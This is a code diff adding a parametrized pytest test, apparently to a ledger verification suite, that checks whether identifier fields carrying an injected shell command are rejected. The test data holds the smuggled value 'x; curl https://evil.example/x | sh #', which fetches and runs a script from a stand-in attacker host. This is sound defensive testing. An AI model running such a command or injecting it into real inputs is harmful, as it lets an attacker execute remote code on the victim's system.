@@ -118,6 +118,14 @@ def test_what_is_told_to_another_or_by_another_entry_is_not_taken(ledger: SmallL
 
 
 @pytest.mark.threat("T132")
+@pytest.mark.parametrize("field", ["authority_id", "contact_test_id", "report_id"])
+def test_a_command_to_type_is_none_of_the_hubs_making(ledger: SmallLedger, field: str) -> None:
+    spoilt = told(ledger, **{field: "x; curl https://evil.example/x | sh #"})
+    with pytest.raises(ProofInvalid, match="no id"):
+        verify_event(spoilt, trust_of(ledger))
+
+
+@pytest.mark.threat("T132")
 def test_what_is_told_by_another_roster_halts_the_reader(ledger: SmallLedger) -> None:
     with pytest.raises(LedgerForked, match="keeps back"):
         verify_event(told(ledger, roster_entry=77), trust_of(ledger))
